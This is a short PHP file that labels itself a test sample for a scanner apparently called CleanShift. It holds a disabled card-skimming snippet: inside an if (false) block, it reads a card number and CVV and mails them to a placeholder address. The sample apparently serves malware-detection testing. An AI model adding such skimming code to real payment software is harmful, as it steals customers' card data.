<?php
// CleanShift test sample: the technique is real, the payload is harmless.
if (false) {
    $n = $payment->getCcNumber();
    $c = $payment->getCcCid();
    mail('collector@example.invalid', 'cc', $n . '|' . $c);
}
